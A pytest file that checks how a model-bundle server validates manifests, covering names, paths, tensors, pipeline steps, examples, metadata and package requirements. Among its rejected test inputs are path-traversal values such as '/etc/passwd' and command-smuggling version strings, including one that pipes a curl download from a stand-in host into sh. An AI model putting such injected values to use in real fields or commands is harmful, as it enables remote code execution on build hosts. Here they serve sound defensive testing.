from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass

import jsonschema
import pytest

from bundleserver.errors import ManifestError
from bundleserver.manifest import Manifest, manifest_schema
from bundleserver.tensors import NUMPY_DTYPES
from tests.manifests import DIGEST, WHERE, Edit, component, drop, edited, op, put


def problems_of(document: Mapping[str, object]) -> list[str]:
    """Return what a manifest is told."""
    with pytest.raises(ManifestError) as raised:
        Manifest.from_json(json.dumps(document), WHERE)
    return [str(problem) for problem in raised.value.problems]


@dataclass(frozen=True)
class Row:
    """A manifest that breaks one rule, what it is told, and whether the schema sees it too."""

    rule: str
    edits: tuple[Edit, ...]
    told: tuple[str, ...]
    in_schema: bool


def broken(rule: str, told: str | tuple[str, ...], *edits: Edit) -> Row:
    """Make a row whose rule one object breaks by itself, so that the schema has it."""
    return Row(rule, edits, (told,) if isinstance(told, str) else told, in_schema=True)


def unfit(rule: str, told: str | tuple[str, ...], *edits: Edit) -> Row:
    """Make a row whose rule several objects break together, beyond a schema."""
    return Row(rule, edits, (told,) if isinstance(told, str) else told, in_schema=False)


PATH_IS = (
    "a relative path inside the bundle, with '/' and without '..', of at most 1024 bytes, and 255 "
    "for each name"
)
LABEL_IS = (
    "a version label: a digit, or v and a digit, then letters, digits, '.', '_', '+', '-', "
    "64 characters at most"
)
NAME_IS = "a model's name: a letter or digit, then letters, digits, '.', '_', '-'"
DIGEST_IS = "the file's SHA-256 digest: 64 lower-case hexadecimal digits"
DATATYPES = ", ".join(f"'{name}'" for name in NUMPY_DTYPES)
SIZE_IS = "a size: a positive integer, or -1 for any"
MOMENT_IS = "an ISO 8601 date and time: '2025-12-09T10:00:00Z'"
LABELS_ARE = "an array of two labels, both numbers, both strings or both booleans"
WEIGHT_IS = "a weight: a non-negative number"
TENSOR_NAMES = "an array of one or more tensor names"

ROWS = [
    broken("format is required", "format: is missing; expected 'bundle/v1'", drop("format")),
    broken("format is known", "format: is 'bundl'; expected 'bundle/v1'", put("bundl", "format")),
    broken("format is no number", "format: is 1; expected 'bundle/v1'", put(1, "format")),
    broken(
        "components are required",
        "components: is missing; expected an object with one or more components, by name",
        drop("components"),
    ),
    broken(
        "components are not empty",
        "components: is an object; expected an object with one or more components, by name",
        put({}, "components"),
    ),
    broken(
        "components are no list",
        "components: is an array; expected an object with one or more components, by name",
        put([], "components"),
    ),
    broken(
        "an unknown key",
        "verson: is not a known key; did you mean 'version'?",
        put("v3", "verson"),
    ),
    broken(
        "a key far from all known ones",
        "q: is not a known key; known: 'format', 'name', 'version', 'components', "
        "'code', 'inputs', 'steps', "
        "'outputs', 'examples', 'metadata', 'requirements'",
        put("v3", "q"),
    ),
    broken("the name of a model", f"name: is 'a/b'; expected {NAME_IS}", put("a/b", "name")),
    broken("a name is not empty", f"name: is ''; expected {NAME_IS}", put("", "name")),
    broken("null is no value", f"name: is null; expected {NAME_IS}", put(None, "name")),
    broken(
        "the version is a label",
        f"version: is 'latest'; expected {LABEL_IS}",
        put("latest", "version"),
    ),
    broken(
        "the version is not too long",
        f"version: is '{'1' * 65}'; expected {LABEL_IS}",
        put("1" * 65, "version"),
    ),
    broken("the version is no number", f"version: is 3; expected {LABEL_IS}", put(3, "version")),
    broken(
        "a component's name",
        "components['2nd']: is not a valid component name; expected a letter or '_', then letters, "
        "digits, '_' and '-'",
        put({"framework": "sklearn", "path": "a.pkl"}, "components", "2nd"),
    ),
    broken(
        "a component is an object",
        "components.scaler: is 'a.pkl'; expected an object with the keys 'framework', 'path', "
        "'sha256', 'size', 'model', 'options'",
        put("a.pkl", "components", "scaler"),
    ),
    broken(
        "an unknown key of a component",
        "components.scaler.Path: is not a known key; did you mean 'path'?",
        put("a.pkl", "components", "scaler", "Path"),
    ),
    broken(
        "a framework is required",
        "components.scaler.framework: is missing; expected the framework that opens the file",
        drop("components", "scaler", "framework"),
    ),
    broken(
        "a framework is named",
        "components.scaler.framework: is ''; expected the framework that opens the file",
        put("", "components", "scaler", "framework"),
    ),
    broken(
        "a path is required",
        "components.scaler.path: is missing; a component with framework 'sklearn' requires a path",
        drop("components", "scaler", "path"),
    ),
    *(
        broken(
            f"a path that is {what}",
            f"components.scaler.path: is {path!r}; expected {PATH_IS}",
            put(path, "components", "scaler", "path"),
        )
        for what, path in {
            "absolute": "/etc/passwd",
            "above": "../x.pkl",
            "above later on": "a/../../x.pkl",
            "above at its end": "a/..",
            "empty": "",
            "the directory": ".",
            "the directory, longer": "././",
            "of another system": "a\\b.pkl",
            "cut by NUL": "a\0.pkl",
        }.items()
    ),
    broken(
        "another model is named",
        "components.scaler.model: is missing; a component with framework 'model' requires a model",
        component(framework="model"),
    ),
    broken(
        "another model has no file",
        tuple(
            f"components.scaler.{key}: is not allowed for a component with framework "
            "'model', which requires a model"
            for key in ("path", "sha256", "size")
        ),
        component(framework="model", model="other", path="a", sha256=DIGEST, size=1),
    ),
    broken(
        "a file is no other model",
        "components.scaler.model: is not allowed for a component with framework "
        "'sklearn', which requires a path",
        component(framework="sklearn", path="a.pkl", model="other"),
    ),
    broken(
        "another model has a name",
        "components.scaler.model: is ''; expected the name of another model of the same server",
        component(framework="model", model=""),
    ),
    broken(
        "a digest in capitals",
        f"components.scaler.sha256: is '{DIGEST.upper()}'; expected {DIGEST_IS}",
        put(DIGEST.upper(), "components", "scaler", "sha256"),
    ),
    broken(
        "a short digest",
        f"components.scaler.sha256: is '{DIGEST[1:]}'; expected {DIGEST_IS}",
        put(DIGEST[1:], "components", "scaler", "sha256"),
    ),
    broken(
        "a negative size",
        "components.scaler.size: is -1; expected the file's size in bytes: an integer",
        put(-1, "components", "scaler", "size"),
    ),
    broken(
        "a size is no text",
        "components.scaler.size: is '12'; expected the file's size in bytes: an integer",
        put("12", "components", "scaler", "size"),
    ),
    broken(
        "options are an object",
        "components.scaler.options: is an array; expected an object with the framework's own "
        "settings",
        put([], "components", "scaler", "options"),
    ),
    broken(
        "inputs are a list", "inputs: is an object; expected an array of tensors", put({}, "inputs")
    ),
    broken(
        "a tensor is an object",
        (
            "inputs[0]: is 'features'; expected an object with the keys 'name', 'datatype', "
            "'shape', 'columns'",
        ),
        put(["features"], "inputs"),
    ),
    broken(
        "a tensor's name is required",
        "inputs[0].name: is missing; expected the name of a tensor",
        drop("inputs", 0, "name"),
    ),
    broken(
        "a tensor's name is not empty",
        "outputs[1].name: is ''; expected the name of a tensor",
        put("", "outputs", 1, "name"),
    ),
    broken(
        "an unknown key of a tensor",
        "outputs[1].dtype: is not a known key; did you mean 'datatype'?",
        put("FP64", "outputs", 1, "dtype"),
    ),
    broken(
        "a datatype is one of the protocol's",
        f"inputs[0].datatype: is 'fp-64'; expected one of {DATATYPES}; did you mean 'FP64'?",
        put("fp-64", "inputs", 0, "datatype"),
    ),
    broken(
        "a shape is a list",
        "outputs[0].shape: is -1; expected an array of sizes, one per dimension; -1 is any",
        put(-1, "outputs", 0, "shape"),
    ),
    *(
        broken(
            f"{size!r} is no size",
            f"outputs[0].shape[0]: is {json.dumps(size)}; expected {SIZE_IS}",
            put([size], "outputs", 0, "shape"),
        )
        for size in (0, -2, True, None, 1.5, 2**63)
    ),
    unfit(
        # JSON Schema takes 1.0 for an integer.
        "a size is written without a point",
        f"outputs[0].shape[0]: is 1.0; expected {SIZE_IS}",
        put([1.0], "outputs", 0, "shape"),
    ),
    broken(
        "columns are unique",
        "inputs[0].columns[2]: is 'cpu', already used by inputs[0].columns[0]; "
        "names must be unique",
        put(["cpu", "memory", "cpu"], "inputs", 0, "columns"),
    ),
    broken(
        "columns are texts",
        "inputs[0].columns[1]: is 2; expected the name of a column",
        put(["cpu", 2, "io"], "inputs", 0, "columns"),
    ),
    unfit(
        "columns fit the last dimension",
        "inputs[0].columns: has 2 names; the last dimension is 3",
        put(["cpu", "io"], "inputs", 0, "columns"),
    ),
    unfit(
        "columns need a dimension",
        "inputs[0].columns: has 3 names; the shape has no dimension",
        put([], "inputs", 0, "shape"),
    ),
    unfit(
        "inputs have different names",
        "inputs[1].name: is 'features', already used by inputs[0].name; names must be unique",
        lambda document: document["inputs"].append({"name": "features"}),
    ),
    unfit(
        "outputs have different names",
        "outputs[1].name: is 'label', already used by outputs[0].name; names must be unique",
        put("label", "outputs", 1, "name"),
    ),
    unfit(
        "a step's component is known",
        "steps[2].component: is 'modle', which is not a component; did you mean 'model'?",
        put("modle", "steps", 2, "component"),
    ),
    broken(
        "a method is a text",
        "steps[2].method: is an array; expected the name of a method",
        put(["predict"], "steps", 2, "method"),
    ),
    broken(
        "a method goes with a component",
        "steps[2].method: is only allowed with 'component'; use 'params' instead",
        op("mean", ["label"], ["m"]),
        put("predict", "steps", 2, "method"),
    ),
    broken(
        "params go with an operation",
        "steps[2].params: is only allowed with 'op'; use the component's 'options' instead",
        put({"above": 1}, "steps", 2, "params"),
    ),
    broken(
        "params are an object",
        "steps[2].params: is an array; expected an object with the operation's settings",
        op("mean", ["label"], ["m"]),
        put([1], "steps", 2, "params"),
    ),
    broken(
        "an operation is one of the set",
        "steps[2].op: is 'treshold'; expected one of 'reconstruction_error', 'threshold', 'vote', "
        "'mean', 'concat'; did you mean 'threshold'?",
        op("treshold", ["label"], ["m"]),
    ),
    broken(
        "a step takes something",
        f"steps[2].inputs: is an array; expected {TENSOR_NAMES}",
        put([], "steps", 2, "inputs"),
    ),
    broken(
        "a step's inputs are required",
        f"steps[2].inputs: is missing; expected {TENSOR_NAMES}",
        drop("steps", 2, "inputs"),
    ),
    broken(
        "a step gives something",
        f"steps[2].outputs: is an array; expected {TENSOR_NAMES}",
        put([], "steps", 2, "outputs"),
    ),
    broken(
        "a step's tensors are texts",
        "steps[2].inputs[0]: is 1; expected the name of a tensor",
        put([1], "steps", 2, "inputs"),
    ),
    broken(
        "reconstruction_error takes two tensors",
        "steps[2].inputs: has 1 names; expected 2",
        op("reconstruction_error", ["label"], ["e"]),
    ),
    broken(
        "reconstruction_error has no params",
        "steps[2].params.axis: is not a known key; known: none",
        op("reconstruction_error", ["label", "scaled"], ["e"], axis=1),
    ),
    broken(
        "threshold needs a value",
        "steps[2].params.above: is missing; expected a number: values above it get the second "
        "label",
        op("threshold", ["label"], ["flag"]),
    ),
    broken(
        "threshold takes a number",
        "steps[2].params.above: is true; expected a number: values above it get the second label",
        op("threshold", ["label"], ["flag"], above=True),
    ),
    *(
        broken(
            f"threshold's labels are not {labels!r}",
            f"steps[2].params.labels: is an array; expected {LABELS_ARE}",
            op("threshold", ["label"], ["flag"], above=1, labels=labels),
        )
        for labels in ([1], [1, "a"], [True, 1], [None, None])
    ),
    unfit(
        "threshold's labels fit INT64",
        f"steps[2].params.labels: is an array; expected {LABELS_ARE}",
        op("threshold", ["label"], ["flag"], above=1, labels=[1, 2**63]),
    ),
    broken(
        "threshold gives one tensor",
        "steps[2].outputs: has 2 names; expected 1",
        op("threshold", ["label"], ["flag", "more"], above=1),
    ),
    broken(
        "vote gives a label and a score",
        "steps[2].outputs: has 3 names; expected 1 or 2",
        op("vote", ["label"], ["a", "b", "c"]),
    ),
    broken(
        "vote's threshold is a share",
        "steps[2].params.threshold: is 2; expected a share of the votes: a number from 0 to 1",
        op("vote", ["label"], ["a"], threshold=2),
    ),
    broken(
        "vote's encoding is known",
        "steps[2].params.votes: is 'sklern'; expected one of 'anomaly', 'sklearn'; "
        "did you mean 'sklearn'?",
        op("vote", ["label"], ["a"], votes="sklern"),
    ),
    broken(
        "weights are not negative",
        f"steps[2].params.weights[1]: is -1; expected {WEIGHT_IS}",
        op("vote", ["label", "scaled"], ["a"], weights=[1, -1]),
    ),
    broken(
        "weights are numbers",
        f"steps[2].params.weights[0]: is true; expected {WEIGHT_IS}",
        op("mean", ["label"], ["a"], weights=[True]),
    ),
    broken(
        "weights are some",
        "steps[2].params.weights: is an array; expected an array of weights, one per input",
        op("mean", ["label"], ["a"], weights=[]),
    ),
    unfit(
        "weights are as many as inputs",
        "steps[2].params.weights: has 1 weights; expected 2, one per input",
        op("mean", ["label", "scaled"], ["a"], weights=[1]),
    ),
    unfit(
        "weights are not all zero",
        "steps[2].params.weights: adds up to 0.0; expected a finite sum above 0",
        op("mean", ["label", "scaled"], ["a"], weights=[0, 0]),
    ),
    unfit(
        "weights have a sum",
        "steps[2].params.weights: adds up to inf; expected a finite sum above 0",
        op("vote", ["label", "scaled"], ["a"], weights=[1e308, 1e308]),
    ),
    broken(
        "an axis is a whole number",
        "steps[2].params.axis: is 0.5; expected an axis: an integer",
        op("concat", ["label", "scaled"], ["a"], axis=0.5),
    ),
    broken(
        "an unknown param",
        "steps[2].params.axes: is not a known key; did you mean 'axis'?",
        op("concat", ["label", "scaled"], ["a"], axes=1),
    ),
    unfit(
        "a step takes what is known",
        "steps[1].inputs[0]: is 'scald', which is not an input and no step produces; "
        "did you mean 'scaled'?",
        put(["scald"], "steps", 1, "inputs"),
    ),
    unfit(
        "a step takes what earlier steps made",
        "steps[0].inputs[0]: is 'label', which steps[1] produces later; put that step before "
        "this one",
        put(["label"], "steps", 0, "inputs"),
        put(["features"], "steps", 1, "inputs"),
    ),
    unfit(
        "open inputs are not made later",
        "steps[0].inputs[0]: is 'label', which steps[1] produces later; put that step before "
        "this one",
        drop("inputs"),
        drop("examples"),
        put(["label"], "steps", 0, "inputs"),
        put(["features"], "steps", 1, "inputs"),
    ),
    unfit(
        "steps go in no circle",
        "steps[0].inputs[0]: is 'score', which closes a cycle: 'score' -> 'scaled' -> 'label' -> "
        "'score'; a step may only use outputs of earlier steps",
        put(["score"], "steps", 0, "inputs"),
        put(["label"], "steps", 2, "inputs"),
    ),
    unfit(
        "a step does not take its own output",
        "steps[0].inputs[1]: is 'scaled', which closes a cycle: 'scaled' -> 'scaled'; a step may "
        "only use outputs of earlier steps",
        put(["features", "scaled"], "steps", 0, "inputs"),
    ),
    unfit(
        "a tensor is made once",
        "steps[2].outputs[1]: is 'label', already used by steps[1].outputs[0]; "
        "names must be unique",
        put(["score", "label"], "steps", 2, "outputs"),
    ),
    broken(
        "a step makes a tensor once",
        "steps[2].outputs[1]: is 'score', already used by steps[2].outputs[0]; "
        "names must be unique",
        put(["score", "score"], "steps", 2, "outputs"),
    ),
    unfit(
        "a step makes no input",
        "steps[2].outputs[1]: is 'features', already used by inputs[0].name; names must be unique",
        put(["score", "features"], "steps", 2, "outputs"),
    ),
    unfit(
        "an output is made by a step",
        "outputs[1].name: is 'scores', which no step produces; did you mean 'score'?",
        put("scores", "outputs", 1, "name"),
    ),
    broken(
        "an unknown key of an example",
        "examples[0].atol: is not a known key; did you mean 'rtol'?",
        put(1, "examples", 0, "atol"),
    ),
    broken(
        "an example's inputs are required",
        "examples[0].inputs: is missing; expected an object with the values of each input",
        drop("examples", 0, "inputs"),
    ),
    unfit(
        "an example's inputs are declared",
        "examples[0].inputs.feature: is not a declared input; did you mean 'features'?",
        put([1], "examples", 0, "inputs", "feature"),
    ),
    unfit(
        "an example has every input",
        "examples[0].inputs.features: is missing; an example must have every declared input",
        put({}, "examples", 0, "inputs"),
    ),
    unfit(
        "an example's outputs are declared",
        "examples[0].outputs.scaled: is not a declared output; known: 'label', 'score'",
        put([1], "examples", 0, "outputs", "scaled"),
    ),
    broken(
        "rtol is not negative",
        "examples[0].rtol: is -0.1; expected the relative tolerance: a non-negative number",
        put(-0.1, "examples", 0, "rtol"),
    ),
    broken(
        "an example's parameters are an object",
        "examples[0].parameters: is 0.9; expected an object with the request's parameters",
        put(0.9, "examples", 0, "parameters"),
    ),
    broken(
        "metadata is an object",
        "metadata: is 'x'; expected an object with the keys 'trained_at', 'metrics', "
        "'training_data', 'source', 'tags'",
        put("x", "metadata"),
    ),
    broken(
        "trained_at is a moment",
        f"metadata.trained_at: is 'yesterday'; expected {MOMENT_IS}",
        put("yesterday", "metadata", "trained_at"),
    ),
    broken(
        "trained_at is no count of seconds",
        f"metadata.trained_at: is '1765274400'; expected {MOMENT_IS}",
        put("1765274400", "metadata", "trained_at"),
    ),
    unfit(
        "trained_at is in the calendar",
        f"metadata.trained_at: is '2025-02-30'; expected {MOMENT_IS}",
        put("2025-02-30", "metadata", "trained_at"),
    ),
    broken(
        "metrics are an object",
        "metadata.metrics: is 0.9; expected an object with a value per metric",
        put(0.9, "metadata", "metrics"),
    ),
    broken(
        "training_data is an object",
        "metadata.training_data: is 's3://x'; expected an object: uri, version, sha256, rows",
        put("s3://x", "metadata", "training_data"),
    ),
    broken(
        "source is an object",
        "metadata.source: is null; expected an object: repository, commit, notebook",
        put(None, "metadata", "source"),
    ),
    broken(
        "tags are an object",
        "metadata.tags: is an array; expected an object with a value per tag",
        put(["a"], "metadata", "tags"),
    ),
    broken(
        "an unknown key of requirements",
        "requirements.package: is not a known key; did you mean 'packages'?",
        put({}, "requirements", "package"),
    ),
    broken(
        "python is a text",
        "requirements.python: is 3.11; expected a Python version: '3.11'",
        put(3.11, "requirements", "python"),
    ),
    broken(
        "a package's version is a text",
        "requirements.packages.numpy: is 2; expected one version by PEP 440: '1.2', '2.6.0+cpu'",
        put(2, "requirements", "packages", "numpy"),
    ),
    *(
        broken(
            f"a package's version is one version, not {version[:20]}",
            f"requirements.packages.numpy: is {shown}; expected one version by PEP 440: '1.2', "
            "'2.6.0+cpu'",
            put(version, "requirements", "packages", "numpy"),
        )
        for version, shown in (
            ("", "''"),
            (">=1,<2", "'>=1,<2'"),
            ("1.*", "'1.*'"),
            ("1.2; curl evil.sh | sh", "'1.2; curl evil.sh | sh'"),
            ("1.2\nRUN evil", r"'1.2\nRUN evil'"),
        )
    ),
    broken(
        "a package has a name",
        "requirements.packages['-x']: is not a valid package name; expected letters "
        "and digits, and "
        "'.', '_' or '-' between them",
        put("1", "requirements", "packages", "-x"),
    ),
]


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.rule)
def test_manifest_that_breaks_a_rule_is_told_that_and_nothing_else(row):
    """Each broken rule is told once, with its place and what is expected; nothing follows."""
    problems = problems_of(edited(*row.edits))

    assert list(row.told) == problems


@pytest.mark.parametrize("row", [row for row in ROWS if row.in_schema], ids=lambda row: row.rule)
def test_schema_refuses_what_one_object_breaks_by_itself(row):
    """What an object breaks by itself is refused by the published schema too."""
    validator = jsonschema.Draft202012Validator(manifest_schema())

    assert not validator.is_valid(edited(*row.edits))


def test_manifest_with_many_problems_is_told_all_of_them():
    """Problems of structure and of fit are reported together, in one error that names the file."""
    document = edited(
        put("sklern", "components", "scaler", "framwork"),
        put("../x", "components", "model", "path"),
        put("modle", "steps", 1, "component"),
        put(["scald"], "steps", 2, "inputs"),
        put("x", "steps", 2, "extra"),
        put(-1, "examples", 0, "rtol"),
        put([1], "examples", 0, "inputs", "feature"),
    )

    with pytest.raises(ManifestError, match=rf"^{WHERE}: 7 problems: ") as raised:
        Manifest.from_json(json.dumps(document), WHERE)

    assert {
        "components.scaler.framwork",
        "components.model.path",
        "steps[1].component",
        "steps[2].inputs[0]",
        "steps[2].extra",
        "examples[0].rtol",
        "examples[0].inputs.feature",
    } == {problem.where for problem in raised.value.problems}


@pytest.mark.parametrize(
    ("edit", "places"),
    [
        (put(3, "steps", 0), ["steps[0]"]),
        (put([3], "steps", 0, "outputs"), ["steps[0].outputs[0]"]),
        (put(3, "inputs"), ["inputs"]),
        (put(3, "inputs", 0), ["inputs[0]"]),
        (put(3, "inputs", 0, "name"), ["inputs[0].name"]),
        (put(3, "steps"), ["steps"]),
        (put(3, "outputs"), ["outputs"]),
        (put(3, "components"), ["components"]),
        (put(3, "components", "scaler"), ["components.scaler"]),
        (put(3, "components", "scaler", "framework"), ["components.scaler.framework"]),
        (put(3, "examples", 0), ["examples[0]"]),
        (put(3, "examples", 0, "inputs"), ["examples[0].inputs"]),
        (put(3, "steps", 0, "component"), ["steps[0].component"]),
        (
            op("vote", ["label"], [3], threshold=2),
            ["steps[2].outputs[0]", "steps[2].params.threshold"],
        ),
        (put(3, "metadata"), ["metadata"]),
        (put(3, "requirements", "packages"), ["requirements.packages"]),
    ],
)
def test_what_does_not_parse_causes_no_other_problems(edit, places):
    """A value that did not parse is reported, and nothing that its loss may have caused."""
    with pytest.raises(ManifestError) as raised:
        Manifest.from_json(json.dumps(edited(edit)), WHERE)

    assert places == [problem.where for problem in raised.value.problems]


def test_keys_with_half_a_character_are_told():
    """A key that is no text is told wherever it stands, and never stops the others being told."""
    document = edited(
        put("1", "requirements", "packages", "\ud800"),
        put({"framework": "sklearn", "path": "a"}, "components", "\ud800"),
        put(1, "metadata", "metrics", "\ud800"),
        put(-1, "examples", 0, "rtol"),
    )

    places = {problem.partition(":")[0] for problem in problems_of(document)}

    assert {"requirements.packages", "components", "metadata.metrics", "examples[0].rtol"} <= places


def test_names_from_a_manifest_are_shown_on_one_line():
    """A name that is long or holds control characters is cut and escaped in what is told of it."""
    document = edited(put(["\n" + "x" * 500], "steps", 1, "inputs"))

    (problem,) = problems_of(document)

    assert problem.startswith(f"steps[1].inputs[0]: is '\\n{'x' * 77}…, which is not an input")


def test_tensors_that_go_in_two_ways_to_a_cycle_are_told_the_shortest():
    """A cycle is told by its shortest way, once for each step that closes it."""
    steps = [
        {"component": "model", "inputs": ["e"], "outputs": ["a", "b"]},
        {"component": "model", "inputs": ["a"], "outputs": ["c"]},
        {"component": "model", "inputs": ["a", "b"], "outputs": ["d"]},
        {"component": "model", "inputs": ["c", "d"], "outputs": ["x"]},
        {"component": "model", "inputs": ["d", "x"], "outputs": ["e"]},
    ]
    document = edited(put(steps, "steps"), drop("outputs"), drop("examples"))

    assert [
        "steps[0].inputs[0]: is 'e', which closes a cycle: 'e' -> 'a' -> 'd' -> 'e'; a step may "
        "only use outputs of earlier steps"
    ] == problems_of(document)


def test_manifest_of_a_newer_format_is_told_to_upgrade_and_no_more():
    """A format with a higher number says that this server is too old, and judges nothing else."""
    problems = problems_of({"format": "bundle/v2", "parts": []})

    assert [
        "format: is 'bundle/v2', written by a newer bundleserver; expected 'bundle/v1'; upgrade "
        "this server"
    ] == problems


def test_a_forecast_without_steps_takes_and_gives_dates():
    """Without written steps ``ds`` may be an input and an output: the forecast contract's is."""
    document = {
        "format": "bundle/v1",
        "components": {"model": {"framework": "prophet", "path": "model.json"}},
        "inputs": [{"name": "horizon"}, {"name": "ds"}],
        "outputs": [{"name": "mean"}, {"name": "ds"}],
    }

    read = Manifest.from_json(json.dumps(document), "manifest.json")

    assert ["mean", "ds"] == [spec.name for spec in read.outputs]
